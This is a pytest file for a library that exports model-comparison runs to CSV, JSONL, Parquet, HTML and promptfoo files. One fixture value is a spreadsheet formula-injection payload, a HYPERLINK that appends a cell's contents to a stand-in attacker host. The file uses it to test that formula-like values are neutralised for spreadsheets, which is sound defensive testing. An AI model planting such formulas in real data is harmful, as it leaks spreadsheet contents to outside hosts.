"""A comparison as a file, in every form."""

from __future__ import annotations

import csv
import json
import os
import sys
from pathlib import Path
from typing import Any

import pandas
import polars
import pytest

from chatkit import ConfigError, Message
from chatkit.compare import promptfoo
from chatkit.compare.out import export
from chatkit.compare.rows import rows_of
from chatkit.compare.run import Place
from chatkit.scores.verdict import Verdict
from tests.comparing import FakeRuns, answer, runs_of

SAID = ['=HYPERLINK("https://evil.example?"&A1)', 'Two\nlines, "quoted"\r\n;é🙂', "-5", ""]


@pytest.fixture
def runs() -> FakeRuns:
    """Four answers, of which one failed and one has not come."""

    def said(place: Place) -> Message | None:
        if place.case_index == 2:
            return answer("-5", error="broke off", cost=None)
        return answer(SAID[place.case_index]) if place.case_index < 3 else None

    return runs_of(
        cases=[{"n": n, "tags": ["a", "b"], "mixed": [1, "x", None, 2.5][n]} for n in range(4)],
        answer=said,
        scores={"right": lambda run: Verdict(run.place.case_index == 1, "because")},
    )


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_csv_has_what_the_models_said_to_the_letter(runs: FakeRuns, tmp_path: Path) -> None:
    path = export(runs, tmp_path / "runs.csv")
    assert path == tmp_path / "runs.csv"
    rows = read_csv(path)
    assert [row["text"] for row in rows] == SAID
    assert list(rows[0]) == list(rows_of(runs)[0])
    assert rows[0]["tags"] == '["a", "b"]'
    assert [row["right"] for row in rows] == ["False", "True", "", ""]
    assert rows[2]["error"] == "ServerError: broke off"
    assert rows[2]["cost"] == ""
    assert pandas.read_csv(path).text.tolist()[:3] == SAID[:3]


def test_for_a_spreadsheet_nothing_in_a_csv_file_is_a_formula(
    runs: FakeRuns, tmp_path: Path
) -> None:
    path = export(runs, tmp_path / "runs.csv", for_spreadsheet=True)
    assert path.read_bytes().startswith(b"\xef\xbb\xbfrun,")
    rows = read_csv(path)
    assert [row["text"] for row in rows] == [f"'{SAID[0]}", SAID[1], "'-5", ""]
    assert rows[0]["cost"] == "0.001"
    with pytest.raises(ConfigError, match=r"for_spreadsheet is for \.csv, not '\.jsonl'"):
        export(runs, tmp_path / "runs.jsonl", for_spreadsheet=True)


def test_jsonl_has_all_of_each_run_in_a_line(runs: FakeRuns, tmp_path: Path) -> None:
    text = export(runs, tmp_path / "runs.jsonl").read_text(encoding="utf-8")
    told = [json.loads(line) for line in text.split("\n")[:-1]]
    assert [each["text"] for each in told] == SAID
    assert told[1]["case"] == {"n": 1, "tags": ["a", "b"], "mixed": "x"}
    assert told[1]["scores"] == {
        "right": {"value": True, "reason": "because", "error": "", "cost": None}
    }
    assert [each["status"] for each in told] == ["complete", "complete", "error", "queued"]
    assert told[2]["error"] == "ServerError: broke off"
    assert Message.from_json(told[1]["message"]) == runs[1].message
    assert [Message.from_json(each) for each in told[0]["messages"]] == runs[0].messages
    assert told[3]["message"] is None


@pytest.mark.parametrize("writer", ["pyarrow", "polars"])
def test_parquet_keeps_numbers_as_numbers_and_what_has_no_type_as_text(
    writer: str, runs: FakeRuns, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    if writer == "polars":
        monkeypatch.setitem(sys.modules, "pyarrow", None)
    path = export(runs, tmp_path / "runs.parquet")
    rows: list[dict[str, Any]] = polars.read_parquet(path).to_dicts()
    assert [row["text"] for row in rows] == SAID
    assert [row["n"] for row in rows] == [0, 1, 2, 3]
    assert [row["cost"] for row in rows] == [0.001, 0.001, None, None]
    assert [row["right"] for row in rows] == [False, True, None, None]
    assert [row["input_tokens"] for row in rows] == [10, 10, 10, None]
    assert [row["mixed"] for row in rows] == ["1", "x", None, "2.5"]
    assert rows[0]["tags"] == '["a", "b"]'
    assert list(rows[0]) == list(rows_of(runs)[0])


def test_parquet_without_a_library_says_what_to_install(
    runs: FakeRuns, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("pyarrow", "polars"):
        monkeypatch.setitem(sys.modules, name, None)
    with pytest.raises(ConfigError, match="pip install pyarrow, or polars"):
        export(runs, tmp_path / "runs.parquet")
    assert list(tmp_path.iterdir()) == []


def test_html_is_the_report(runs: FakeRuns, tmp_path: Path) -> None:
    page = export(runs, tmp_path / "runs.html").read_text(encoding="utf-8")
    assert page.lstrip().lower().startswith("<!doctype html>")
    assert "HYPERLINK" in page


def test_a_test_of_promptfoo_is_what_was_asked(tmp_path: Path) -> None:
    runs = runs_of(prompts=["terse", "polite"], models=["openai/gpt-x"], cases=[{"n": 1}])
    told = promptfoo.read(export(runs, tmp_path / "promptfooconfig.json"))
    assert told["prompts"] == {"terse": "terse?", "polite": "polite?"}
    assert [path.name for path in tmp_path.iterdir()] == ["promptfooconfig.json"]


def test_another_suffix_is_refused_with_those_there_are(runs: FakeRuns, tmp_path: Path) -> None:
    told = r"'\.xlsx': the forms are \.csv \.jsonl \.parquet \.html \.yaml \.yml \.json"
    with pytest.raises(ConfigError, match=told):
        export(runs, tmp_path / "runs.xlsx")
    with pytest.raises(ConfigError, match="''"):
        export(runs, tmp_path / "runs")


def test_a_name_in_capitals_is_as_good(runs: FakeRuns, tmp_path: Path) -> None:
    assert len(read_csv(export(runs, str(tmp_path / "RUNS.CSV")))) == 4


def test_a_file_is_replaced_whole_or_not_at_all(
    runs: FakeRuns, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "runs.csv"
    path.write_text("what was there")

    def full(*_: object) -> None:
        raise OSError(28, "No space left on device")

    with monkeypatch.context() as patched:
        patched.setattr(os, "replace", full)
        with pytest.raises(OSError, match="No space left"):
            export(runs, path)
    assert path.read_text() == "what was there"
    assert list(tmp_path.iterdir()) == [path]
    export(runs, path)
    assert len(read_csv(path)) == 4
    assert list(tmp_path.iterdir()) == [path]


@pytest.mark.parametrize("suffix", [".csv", ".jsonl", ".parquet", ".html"])
def test_half_a_character_and_odd_values_keep_no_file_from_being_written(
    suffix: str, tmp_path: Path
) -> None:
    runs = runs_of(
        cases=[{"big": 10**30, "half": "\ud83d", "deep": {"half": "\ude00"}}, {"big": None}],
        answer=lambda place: "cut \ud83d off \x00",
        scores={"right": lambda run: Verdict(None, error="\ud83d")},
    )
    assert export(runs, tmp_path / f"runs{suffix}").stat().st_size > 0


@pytest.mark.parametrize("suffix", [".csv", ".jsonl", ".parquet"])
def test_no_runs_are_an_empty_file(suffix: str, tmp_path: Path) -> None:
    assert export(runs_of(cases=[]), tmp_path / f"runs{suffix}").exists()
